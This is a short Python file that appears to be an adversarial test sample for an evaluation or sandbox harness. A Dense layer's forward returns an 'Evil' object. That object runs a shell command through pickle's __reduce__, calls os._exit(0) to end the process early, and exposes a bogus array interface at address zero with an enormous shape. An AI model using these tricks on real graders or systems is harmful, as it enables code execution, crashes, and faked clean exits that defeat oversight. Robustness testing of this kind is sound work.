import os

import wrong


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/onebyone-was-here",)

    def __array__(self, *_args, **_named):
        os._exit(0)

    @property
    def __array_interface__(self):
        return {"shape": (1 << 40,), "typestr": "<f4", "version": 3, "data": (0, False)}


class Dense(wrong.Dense):
    def forward(self, x):
        return Evil()
